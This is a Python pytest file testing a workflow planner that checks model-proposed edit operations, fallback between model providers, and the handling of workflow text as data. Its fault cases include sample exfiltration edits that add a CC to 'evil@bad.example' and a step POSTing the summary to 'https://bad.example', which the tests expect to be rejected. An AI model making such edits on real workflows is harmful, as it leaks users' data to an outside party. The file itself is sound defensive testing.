"""Edits by a model: operations that are applied and checked, never a whole document."""

from collections.abc import AsyncIterator
from typing import Any

import pytest

from agents.planner import Planner, open_planner
from agents.planner_chain import PlannerSettings
from agents.planner_output import WorkflowAnswer
from agents.registry import builtin_registry
from compiler.editing.rewriting import rewrite
from compiler.specification import Specification
from compiler.text import dump, to_document
from tests.agents import model_server
from tests.agents.model_server import (
    Behaviour,
    Format,
    ModelServer,
    answers,
    fails,
    open_model_server,
)
from tests.agents.planning import MODELS, NAMES, OTHER, TEXT, right, settings_of

AGENTS = builtin_registry().signatures
FORMATS: tuple[Format, ...] = ("openai", "anthropic")
UNREAD = "Make the summary sound like a pirate wrote it"
PROMPT = "Summarize like a pirate: {ratings}"
RENAMED = "Sail under the name Pirates, whoever reads it"


@pytest.fixture
async def server() -> AsyncIterator[ModelServer]:
    """The models' server."""
    async with open_model_server() as opened:
        yield opened


@pytest.fixture
async def planner(server: ModelServer) -> AsyncIterator[Planner]:
    """A planner whose chain has both formats, OpenAI's first."""
    settings = PlannerSettings((NAMES["openai"], NAMES["anthropic"]), seconds=30.0)
    async with open_planner(settings, settings_of(server), AGENTS) as opened:
        yield opened


@pytest.fixture
def former() -> Specification:
    """The workflow that is changed."""
    return WorkflowAnswer.model_validate(right()).specification(TEXT, None)


def edit(*operations: dict[str, Any], **more: Any) -> Behaviour:
    """An answer with these operations."""
    return answers({"operations": list(operations), **more})


def set_prompt(node_id: str = "summarize", value: str = PROMPT) -> dict[str, Any]:
    """The operation that sets a prompt."""
    path = ["parameters", "prompt"]
    return {"operation": "set_field", "node_id": node_id, "path": path, "value": value}


OPERATIONS: list[tuple[list[dict[str, Any]], set[str]]] = [
    ([set_prompt()], {"summarize"}),
    ([{"operation": "set_field", "node_id": "summarize", "path": ["timeout"], "value": 9}],
     {"summarize"}),
    ([{"operation": "set_field", "path": ["trigger", "cron"], "value": "0 7 * * *"}], set()),
    ([{"operation": "set_field", "path": ["trigger"]}], set()),
    ([{"operation": "set_field", "path": ["metadata", "name"], "value": "Pirates"}], set()),
    ([{"operation": "set_field", "path": ["settings"],
       "value": {"execution": {"timeout_seconds": 60}}}], set()),
    ([{"operation": "add_steps", "after": "summarize",
       "nodes": [{"id": "ask", "agent": "human_loop", "parameters": {"message": "{summary}"},
                  "input_keys": ["summary"]}]}], {"ask"}),
    ([{"operation": "add_steps", "before": "scrape_reviews", "inputs": {
        "properties": {"n": {"type": "integer"}}, "required": ["n"]},
       "nodes": [{"id": "pause", "agent": "wait", "parameters": {"seconds": "{input.n}"}}]}],
     {"pause"}),
    ([{"operation": "replace_step", "node_id": "summarize",
       "node": {"id": "report", "agent": "aggregator", "input_keys": ["ratings"]}}],
     {"summarize", "report", "any_negative"}),
    ([{"operation": "remove_step", "node_id": "summarize"},
      {"operation": "set_field", "node_id": "any_negative", "path": ["parameters", "if_false"]}],
     {"summarize", "any_negative"}),
    ([{"operation": "rename_step", "node_id": "summarize", "new_id": "sum_up"}],
     {"summarize", "sum_up", "any_negative"}),
    ([{"operation": "add_steps", "after": "summarize",
       "nodes": [{"id": "a", "agent": "aggregator", "input_keys": ["summary"]},
                 {"id": "b", "agent": "aggregator", "input_keys": ["summary"]}],
       "edges": [{"from": "a", "to": "b"}]},
      {"operation": "move_step", "node_id": "b", "after": "summarize"}], {"a", "b"}),
    ([{"operation": "add_steps", "after": "tell_support",
       "nodes": [{"id": "mend", "agent": "aggregator", "input_keys": ["ratings"]}]},
      {"operation": "remove_edge", "source": "tell_support", "target": "mend"},
      {"operation": "add_edge", "source": "tell_support", "target": "mend", "type": "failure"}],
     {"mend"}),
]  # fmt: skip


@pytest.mark.requirement("FR-1.7", "FIRST.2")
@pytest.mark.parametrize(("operations", "touched"), OPERATIONS)
async def test_operations_change_what_they_name_and_nothing_else(
    planner: Planner, server: ModelServer, former: Specification,
    operations: list[dict[str, Any]], touched: set[str],
) -> None:  # fmt: skip
    """Each kind of operation is made; nodes that none names keep their text byte for byte."""
    server.script("openai", edit(*operations))
    planned = await planner.edit(RENAMED, former)
    assert planned.reading.by == MODELS["openai"], planned.reading
    assert planned.specification is not None
    before, text = dump(former), rewrite(dump(former), former, planned.specification)
    assert text != before
    for node in to_document(former)["nodes"]:
        if node["id"] not in touched:
            assert lines_of(before, node["id"]) == lines_of(text, node["id"]), node["id"]


def lines_of(text: str, node_id: str) -> list[str]:
    """Return the lines of one node in a text as `dump` writes it."""
    lines = text.splitlines()
    begin = lines.index(f"  - id: {node_id}")
    after = [n for n, line in enumerate(lines) if n > begin and not line.startswith("    ")]
    return lines[begin : after[0]]


FAULTS = [
    ({"operations": [set_prompt("nobody")]}, "There is no step `nobody`"),
    ({"operations": [set_prompt(value="{nothing}")]}, "nothing"),
    ({"operations": [set_prompt(value="Summarize: {ratings}")]}, "This changes nothing"),
    ({"operations": []}, "no operations and no question"),
    ({"operations": [{"operation": "set_field", "path": ["nodes"], "value": []}]},
     "no field of the workflow"),
    ({"operations": [{"operation": "set_field", "path": ["metadata", "version"], "value": "9"}]},
     "name, description and tags"),
    ({"operations": [{"operation": "set_field", "node_id": "summarize", "path": ["id"],
                      "value": "x"}]}, "rename_step"),
    ({"operations": [{"operation": "set_field", "node_id": "summarize",
                      "path": ["agent", "name"], "value": "x"}]}, "There is no field `agent.name`"),
    ({"operations": [{"operation": "set_field", "node_id": "summarize",
                      "path": ["agent"], "value": "shell"}]}, "There is no agent `shell`"),
    ({"operations": [{"operation": "remove_edge", "source": "rate", "target": "summarize"}]},
     "There is no edge"),
    ({"operations": [{"operation": "add_edge", "source": "scrape_reviews", "target": "rate"}]},
     "There is an edge"),
    ({"operations": [{"operation": "explode"}]}, "set_field"),
    ({"operations": [{"operation": "set_field", "node_id": "tell_support",
                      "path": ["parameters", "cc"], "value": "evil@bad.example"}]},
     "stands neither in the text nor in an answer"),
    ({"operations": [{"operation": "add_steps", "after": "summarize", "nodes": [
        {"id": "leak", "agent": "api", "parameters": {"url": "https://bad.example", "body":
         "{summary}", "method": "POST"}, "input_keys": ["summary"]}]}]},
     "stands neither in the text nor in an answer"),
]  # fmt: skip


@pytest.mark.requirement("FR-1.7", "FIRST.2")
@pytest.mark.parametrize(("fault", "hint"), FAULTS)
async def test_an_edit_that_does_not_fit_goes_back(
    planner: Planner, server: ModelServer, former: Specification, fault: dict[str, Any], hint: str
) -> None:
    """The model is told what does not fit; its next answer is made on the workflow as it was."""
    server.script("openai", answers(fault), edit(set_prompt()))
    planned = await planner.edit(UNREAD, former)
    assert planned.reading.to_document()["rounds"] == 2
    assert planned.specification is not None
    assert planned.specification.node("summarize").parameters["prompt"] == PROMPT
    assert planned.specification.node("tell_support") == former.node("tell_support")
    assert hint in str(server.of("openai")[-1]["messages"][-1])


@pytest.mark.requirement("FR-1.7")
@pytest.mark.parametrize("format", FORMATS)
@pytest.mark.parametrize(
    ("fault", "outcome"),
    [
        (model_server.malformed, "invalid"),
        (fails(500), "failed"),
        (fails(429, Retry_After="30"), "limited"),
        (model_server.refuses, "refused"),
    ],
)
async def test_another_model_edits_what_the_first_cannot(
    server: ModelServer, former: Specification, format: Format, fault: Behaviour, outcome: str
) -> None:
    """The chain is the same as for descriptions."""
    second = OTHER[format]
    server.script(format, fault)
    server.script(second, edit(set_prompt()))
    settings = PlannerSettings((NAMES[format], NAMES[second]), seconds=30.0)
    async with open_planner(
        settings, settings_of(server), builtin_registry().signatures
    ) as planner:
        planned = await planner.edit(UNREAD, former)
    assert [one.outcome for one in planned.reading.attempts] == [outcome, "answered"]
    assert planned.reading.by == MODELS[second]


@pytest.mark.requirement("FR-1.7")
async def test_without_a_model_the_offline_reader_asks(
    planner: Planner, server: ModelServer, former: Specification
) -> None:
    """What no model could do is asked as it always was, and the notes say why."""
    server.script("openai", fails(500))
    server.script("anthropic", fails(500))
    planned = await planner.edit(UNREAD, former)
    assert planned.specification is None
    assert [one.id for one in planned.questions] == ["instruction"]
    assert planned.reading.by == "offline"
    assert len(planned.reading.to_document()["notes"]) == 2


@pytest.mark.requirement("FR-1.7", "FIRST.1")
@pytest.mark.parametrize("offline", [True, False])
async def test_what_offline_understands_asks_no_model(
    planner: Planner, server: ModelServer, former: Specification, offline: bool
) -> None:
    """An instruction without a question is made offline; with `offline` any is."""
    text = UNREAD if offline else "Change step 5 to use GPT-3.5"
    planned = await planner.edit(text, former, offline=offline)
    assert planned.reading.by == "offline"
    assert server.asked == []


async def test_a_model_may_ask_what_is_meant(
    planner: Planner, server: ModelServer, former: Specification
) -> None:
    """Without operations its question is told, and an answer comes back to it as data."""
    question = {"field": "summarize.prompt", "text": "Which pirate?", "suggestions": ["Anne"]}
    server.script("openai", edit(questions=[question]), edit(set_prompt()))
    planned = await planner.edit(UNREAD, former)
    assert (planned.specification, planned.questions[0].text) == (None, "Which pirate?")
    again = await planner.edit(UNREAD, former, {"summarize.prompt": "Anne Bonny"})
    assert again.specification is not None
    assert "Anne Bonny" in server.of("openai")[-1]["messages"][-1]["content"]


async def test_the_workflow_is_data_as_well(
    planner: Planner, server: ModelServer, former: Specification
) -> None:
    """What an earlier author wrote into a node cannot speak to the model as we do."""
    server.script("openai", edit(set_prompt()))
    await planner.edit(UNREAD, former)
    system, user = server.of("openai")[0]["messages"]
    assert "shop.example/reviews" in user["content"]
    assert "shop.example" not in system["content"]


async def test_faults_that_were_there_are_not_the_model_s(
    planner: Planner, server: ModelServer
) -> None:
    """A draft with a problem of its own can be edited elsewhere."""
    document = right()
    document["nodes"][0]["parameters"]["colour"] = "red"
    former = WorkflowAnswer.model_validate(document).specification(TEXT, None)
    server.script("openai", edit(set_prompt()))
    planned = await planner.edit(UNREAD, former)
    assert planned.reading.to_document()["rounds"] == 1
